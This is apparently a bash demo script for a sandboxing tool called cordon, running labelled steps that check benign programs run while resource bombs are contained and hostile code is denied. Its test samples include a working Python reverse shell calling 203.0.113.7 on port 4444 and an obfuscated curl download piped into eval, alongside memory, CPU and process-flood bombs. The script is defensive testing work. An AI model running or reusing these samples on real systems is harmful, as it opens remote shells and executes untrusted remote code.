#!/usr/bin/env bash
# A guided tour of cordon's pipeline (analyze -> decide -> run hardened -> monitor -> audit)
# through the `cordon` binary.
#
#   scripts/demo.sh [--skip-setup] [--debug]
#
# Runs scripts/setup.sh first (packages, Docker engine, runtime images, release build),
# then one labelled step per behaviour. Each step states the exit code it expects and the
# summary at the end says which steps behaved as expected; the demo exits non-zero if any
# did not. Code is fed to cordon on stdin: nothing in here runs on the host itself.
# shellcheck disable=SC2016 # the snippets are code for the sandbox, not for this shell
set -uo pipefail

REPO_ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
readonly REPO_ROOT
SKIP_SETUP=0
PROFILE=release
for arg in "$@"; do
    case "$arg" in
        --skip-setup) SKIP_SETUP=1 ;;
        --debug) PROFILE=debug ;;
        -h | --help) sed -n '2,9p' "${BASH_SOURCE[0]}" | sed 's/^# \{0,1\}//'; exit 0 ;;
        *) echo "demo: unknown argument: $arg" >&2; exit 2 ;;
    esac
done

if [[ -t 1 ]]; then
    BOLD=$'\e[1m' DIM=$'\e[2m' GREEN=$'\e[32m' RED=$'\e[31m' RESET=$'\e[0m'
else
    BOLD="" DIM="" GREEN="" RED="" RESET=""
fi

if [[ "$SKIP_SETUP" == 0 ]]; then
    bash "$REPO_ROOT/scripts/setup.sh" --cargo="$PROFILE" || { echo "demo: setup failed" >&2; exit 1; }
fi

# Where cargo put it: $CARGO_TARGET_DIR when set (a shared build cache), else ./target.
CORDON="${CORDON:-${CARGO_TARGET_DIR:-$REPO_ROOT/target}/$PROFILE/cordon}"
[[ -x "$CORDON" ]] || { echo "demo: $CORDON not found; run scripts/setup.sh --cargo=$PROFILE" >&2; exit 1; }
cd "$REPO_ROOT" || exit 1

STEP=0
RESULTS=()

# step "<title>" "<expected exit codes, space separated>" "<meaning>" <stdin text> -- <cordon args...>
step() {
    local title="$1" expected="$2" meaning="$3" code="$4"
    shift 5
    STEP=$((STEP + 1))
    printf '\n%s== %d. %s%s\n' "$BOLD" "$STEP" "$title" "$RESET"
    if [[ -n "$code" ]]; then
        printf '%s--- code (stdin) ---%s\n' "$DIM" "$RESET"
        printf '%s\n' "$code" | sed 's/^/    /'
        printf '%s-------------------%s\n' "$DIM" "$RESET"
    fi
    printf '%s$ cordon %s%s\n' "$BOLD" "$*" "$RESET"
    local started=$SECONDS rc
    if [[ -n "$code" ]]; then
        printf '%s\n' "$code" | "$CORDON" "$@"
    else
        "$CORDON" "$@" </dev/null
    fi
    rc=$?
    local verdict="${RED}unexpected${RESET}"
    [[ " $expected " == *" $rc "* ]] && verdict="${GREEN}as expected${RESET}"
    printf '%s-> exit %d (%s; expected %s: %s) in %ds%s\n' "$DIM" "$rc" "$verdict$DIM" "${expected// /|}" "$meaning" "$((SECONDS - started))" "$RESET"
    RESULTS+=("$(printf '%2d. %-68s exit %3d  %s' "$STEP" "$title" "$rc" "$verdict")")
    [[ " $expected " == *" $rc "* ]]
}

FAILED=0

step "A benign Python program runs and prints" "0" "ran, exited 0" \
'import statistics, json
data = [3, 1, 4, 1, 5, 9, 2, 6]
print(json.dumps({"mean": statistics.mean(data), "median": statistics.median(data)}))' \
    -- run --language python - || FAILED=$((FAILED + 1))

step "JavaScript runs the same way (Node 18)" "0" "ran, exited 0" \
'const words = "the quick brown fox".split(" ");
console.log(words.map(w => w[0].toUpperCase() + w.slice(1)).join(" "));' \
    -- run --language javascript - || FAILED=$((FAILED + 1))

step "Bash, reading the sandbox's own limits back" "0" "ran, exited 0" \
'echo "uid=$(id -u) $(grep -E "^(CapEff|NoNewPrivs)" /proc/self/status | tr -s "\t\n" "  ")"
touch /etc/cordon-was-here 2>&1 || echo "rootfs is read-only, as it should be"
ls /sys/class/net' \
    -- run --language bash - || FAILED=$((FAILED + 1))

step "The program's exit code comes back as cordon's" "3" "the program's own exit code" \
'import sys
print("giving up with status 3", file=sys.stderr)
sys.exit(3)' \
    -- run --language python - || FAILED=$((FAILED + 1))

step "A memory bomb is contained (killed: out of memory)" "126" "126 = killed, oom" \
'chunks = []
while True:
    chunks.append(bytearray(16 * 1024 * 1024))' \
    -- run --language python --memory 64Mi - || FAILED=$((FAILED + 1))

step "A CPU spin is contained (killed: time limit)" "124 125" "124 = wall timeout, 125 = cpu time" \
'while True:
    pass' \
    -- run --language python --timeout 2s - || FAILED=$((FAILED + 1))

step "A process flood is contained (denied, or killed at the PID limit)" "121 127" "121 = denied by policy, 127 = killed, pids" \
'for i in $(seq 1 500); do sleep 30 & done
wait' \
    -- run --language bash --timeout 5s - || FAILED=$((FAILED + 1))

REVERSE_SHELL='import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.7", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])'

step "Static analysis explains why a reverse shell is dangerous" "2" "2 = deny" \
    "$REVERSE_SHELL" -- analyze --language python - || FAILED=$((FAILED + 1))

step "The same reverse shell is denied before anything runs" "121" "121 = denied by policy, nothing ran" \
    "$REVERSE_SHELL" -- run --language python - || FAILED=$((FAILED + 1))

step "An obfuscated download-and-execute in Bash is denied too" "121" "121 = denied by policy, nothing ran" \
'u=$(printf "%s" "aHR0cDovL2V4YW1wbGUub3JnL3gK" | base64 -d)
eval "$(curl -fsSL "$u")"' \
    -- run --language bash - || FAILED=$((FAILED + 1))

step "The audit log's hash chain verifies" "0" "0 = chain intact" "" \
    -- audit verify || FAILED=$((FAILED + 1))

printf '\n%sSummary%s\n' "$BOLD" "$RESET"
printf '%s\n' "${RESULTS[@]}"
if [[ "$FAILED" -gt 0 ]]; then
    printf '%d step(s) did not behave as expected\n' "$FAILED"
    exit 1
fi
printf 'all %d steps behaved as expected\n' "$STEP"
